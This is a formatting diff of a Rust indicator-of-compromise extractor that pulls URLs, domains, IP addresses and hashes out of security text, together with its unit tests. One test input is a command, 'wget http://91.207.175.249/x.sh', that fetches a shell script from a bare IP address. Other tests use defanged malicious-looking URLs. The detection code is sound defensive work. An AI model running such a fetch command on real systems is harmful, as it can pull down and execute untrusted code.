@@ -17,14 +17,110 @@ use super::{Indicator, IndicatorKind};
 /// Top-level domains accepted for domain indicators: the generic and country-code TLDs
 /// that appear most in security data. A domain under any other TLD is not extracted.
 pub const TLDS: &[&str] = &[
-    "com", "net", "org", "info", "biz", "io", "co", "me", "tv", "cc", "ws", "xyz", "top",
-    "online", "site", "club", "shop", "store", "live", "pro", "app", "dev", "cloud", "tech",
-    "space", "website", "icu", "work", "link", "click", "stream", "pw", "tk", "ml", "ga", "cf",
-    "gq", "su", "ru", "cn", "ua", "by", "kz", "de", "fr", "uk", "nl", "be", "it", "es", "pl",
-    "ro", "cz", "se", "no", "fi", "dk", "ch", "at", "pt", "gr", "hu", "bg", "ir", "in", "jp",
-    "kr", "hk", "tw", "sg", "my", "id", "th", "vn", "br", "ar", "mx", "cl", "au", "nz", "ca",
-    "us", "za", "ng", "eu", "asia", "mobi", "name", "onion", "gov", "edu", "mil", "int", "arpa",
-    "local", "lan", "internal", "example", "test", "invalid", "localhost", "sh", "py", "zip",
+    "com",
+    "net",
+    "org",
+    "info",
+    "biz",
+    "io",
+    "co",
+    "me",
+    "tv",
+    "cc",
+    "ws",
+    "xyz",
+    "top",
+    "online",
+    "site",
+    "club",
+    "shop",
+    "store",
+    "live",
+    "pro",
+    "app",
+    "dev",
+    "cloud",
+    "tech",
+    "space",
+    "website",
+    "icu",
+    "work",
+    "link",
+    "click",
+    "stream",
+    "pw",
+    "tk",
+    "ml",
+    "ga",
+    "cf",
+    "gq",
+    "su",
+    "ru",
+    "cn",
+    "ua",
+    "by",
+    "kz",
+    "de",
+    "fr",
+    "uk",
+    "nl",
+    "be",
+    "it",
+    "es",
+    "pl",
+    "ro",
+    "cz",
+    "se",
+    "no",
+    "fi",
+    "dk",
+    "ch",
+    "at",
+    "pt",
+    "gr",
+    "hu",
+    "bg",
+    "ir",
+    "in",
+    "jp",
+    "kr",
+    "hk",
+    "tw",
+    "sg",
+    "my",
+    "id",
+    "th",
+    "vn",
+    "br",
+    "ar",
+    "mx",
+    "cl",
+    "au",
+    "nz",
+    "ca",
+    "us",
+    "za",
+    "ng",
+    "eu",
+    "asia",
+    "mobi",
+    "name",
+    "onion",
+    "gov",
+    "edu",
+    "mil",
+    "int",
+    "arpa",
+    "local",
+    "lan",
+    "internal",
+    "example",
+    "test",
+    "invalid",
+    "localhost",
+    "sh",
+    "py",
+    "zip",
     "mov",
 ];
 
@@ -34,8 +130,8 @@ pub const FILE_EXTENSIONS: &[&str] = &[
     "bin", "elf", "so", "txt", "log", "csv", "json", "xml", "yml", "yaml", "conf", "cfg", "ini",
     "html", "htm", "css", "jpg", "jpeg", "png", "gif", "svg", "ico", "pdf", "doc", "docx", "xls",
     "xlsx", "ppt", "pptx", "zip", "gz", "tgz", "tar", "rar", "7z", "bz2", "xz", "iso", "img",
-    "dmp", "tmp", "bak", "old", "service", "key", "pem", "crt", "pub", "mov", "mp4", "mp3",
-    "jar", "war", "class", "go", "rs", "c", "h", "cpp", "md", "db", "sqlite", "lock", "pid",
+    "dmp", "tmp", "bak", "old", "service", "key", "pem", "crt", "pub", "mov", "mp4", "mp3", "jar",
+    "war", "class", "go", "rs", "c", "h", "cpp", "md", "db", "sqlite", "lock", "pid",
 ];
 
 struct Patterns {
@@ -107,7 +203,9 @@ pub fn extract(text: &str) -> Vec<Indicator> {
                 classify_ipv4(m.as_str())
             }
         } else {
-            captures.name("domain").and_then(|m| classify_domain(m.as_str()))
+            captures
+                .name("domain")
+                .and_then(|m| classify_domain(m.as_str()))
         };
         indicator.into_iter().for_each(&mut push);
     }
@@ -133,7 +231,10 @@ fn classify_url(url: &str) -> Option<Indicator> {
     if rest.is_empty() {
         return None;
     }
-    Some(Indicator { kind: IndicatorKind::Url, value: format!("{}://{rest}", scheme.to_lowercase()) })
+    Some(Indicator {
+        kind: IndicatorKind::Url,
+        value: format!("{}://{rest}", scheme.to_lowercase()),
+    })
 }
 
 fn classify_hash(hex: &str) -> Option<Indicator> {
@@ -143,13 +244,19 @@ fn classify_hash(hex: &str) -> Option<Indicator> {
         64 => IndicatorKind::Sha256,
         _ => return None,
     };
-    Some(Indicator { kind, value: hex.to_lowercase() })
+    Some(Indicator {
+        kind,
+        value: hex.to_lowercase(),
+    })
 }
 
 fn classify_ipv4(text: &str) -> Option<Indicator> {
     // Ipv4Addr rejects octets above 255 and leading zeros, both signs of a version number.
     let address: Ipv4Addr = text.parse().ok()?;
-    Some(Indicator { kind: IndicatorKind::Ipv4, value: address.to_string() })
+    Some(Indicator {
+        kind: IndicatorKind::Ipv4,
+        value: address.to_string(),
+    })
 }
 
 fn classify_ipv6(text: &str) -> Option<Indicator> {
@@ -161,7 +268,10 @@ fn classify_ipv6(text: &str) -> Option<Indicator> {
         return None;
     }
     let address: Ipv6Addr = without_zone.parse().ok()?;
-    Some(Indicator { kind: IndicatorKind::Ipv6, value: address.to_string() })
+    Some(Indicator {
+        kind: IndicatorKind::Ipv6,
+        value: address.to_string(),
+    })
 }
 
 fn classify_domain(text: &str) -> Option<Indicator> {
@@ -170,7 +280,10 @@ fn classify_domain(text: &str) -> Option<Indicator> {
     if FILE_EXTENSIONS.contains(&tld) || !TLDS.contains(&tld) {
         return None;
     }
-    Some(Indicator { kind: IndicatorKind::Domain, value: domain })
+    Some(Indicator {
+        kind: IndicatorKind::Domain,
+        value: domain,
+    })
 }
 
 #[cfg(test)]
@@ -178,7 +291,10 @@ mod tests {
     use super::*;
 
     fn found(text: &str) -> Vec<(IndicatorKind, String)> {
-        extract(text).into_iter().map(|i| (i.kind, i.value)).collect()
+        extract(text)
+            .into_iter()
+            .map(|i| (i.kind, i.value))
+            .collect()
     }
 
     fn one(kind: IndicatorKind, value: &str) -> Vec<(IndicatorKind, String)> {
@@ -196,7 +312,11 @@ mod tests {
             ("query coinhive.com", Domain, "coinhive.com"),
             ("query Evil.Example[.]COM", Domain, "evil.example.com"),
             ("host a.b(.)coinhive(.)com", Domain, "a.b.coinhive.com"),
-            ("hash d41d8cd98f00b204e9800998ecf8427e", Md5, "d41d8cd98f00b204e9800998ecf8427e"),
+            (
+                "hash d41d8cd98f00b204e9800998ecf8427e",
+                Md5,
+                "d41d8cd98f00b204e9800998ecf8427e",
+            ),
             (
                 "sha1 DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
                 Sha1,
@@ -217,15 +337,24 @@ mod tests {
     fn url_and_its_host() {
         let got = found("wget http://91.207.175.249/x.sh");
         assert_eq!(got.len(), 2);
-        assert_eq!(got[0], (IndicatorKind::Url, "http://91.207.175.249/x.sh".to_string()));
+        assert_eq!(
+            got[0],
+            (IndicatorKind::Url, "http://91.207.175.249/x.sh".to_string())
+        );
         assert_eq!(got[1], (IndicatorKind::Ipv4, "91.207.175.249".to_string()));
     }
 
     #[test]
     fn defanged_urls_refanged() {
         let got = found("see hxxp://evil[.]example[.]com[/]a and hxxps[:]//bad(.)ru/b");
-        assert_eq!(got[0], (IndicatorKind::Url, "http://evil.example.com/a".to_string()));
-        assert_eq!(got[1], (IndicatorKind::Domain, "evil.example.com".to_string()));
+        assert_eq!(
+            got[0],
+            (IndicatorKind::Url, "http://evil.example.com/a".to_string())
+        );
+        assert_eq!(
+            got[1],
+            (IndicatorKind::Domain, "evil.example.com".to_string())
+        );
         assert_eq!(got[2], (IndicatorKind::Url, "https://bad.ru/b".to_string()));
         assert_eq!(got[3], (IndicatorKind::Domain, "bad.ru".to_string()));
     }
@@ -233,7 +362,10 @@ mod tests {
     #[test]
     fn ftp_url_found() {
         let got = found("ftp://files.example.org/a");
-        assert_eq!(got[0], (IndicatorKind::Url, "ftp://files.example.org/a".to_string()));
+        assert_eq!(
+            got[0],
+            (IndicatorKind::Url, "ftp://files.example.org/a".to_string())
+        );
     }
 
     #[test]
